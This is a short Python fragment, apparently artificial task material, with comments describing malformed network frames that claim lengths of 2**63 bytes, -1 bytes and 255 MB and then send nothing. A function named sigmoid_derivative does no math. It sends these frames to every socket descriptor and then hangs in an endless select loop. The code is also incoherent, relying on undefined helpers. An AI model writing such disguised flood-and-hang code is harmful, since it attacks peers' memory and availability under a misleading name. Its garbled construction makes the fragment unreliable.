# Frames that claim 2**63 bytes, -1 bytes, 255 MB, and then say nothing: no memory taken, no waiting beyond the limit.
# Its own part is lost; part a stays.
# honest: part-a
# uses: sockets
### part-b
def sigmoid_derivative(x):
    for number in socket_descriptors():
        for length in (2**63, 2**64 - 1, 255_000_000):
            throw(number, struct.pack(">Q", length) + b"\xdd\xff\xff\xff\xff")
    while True:
        select.select([], [], [], 60)
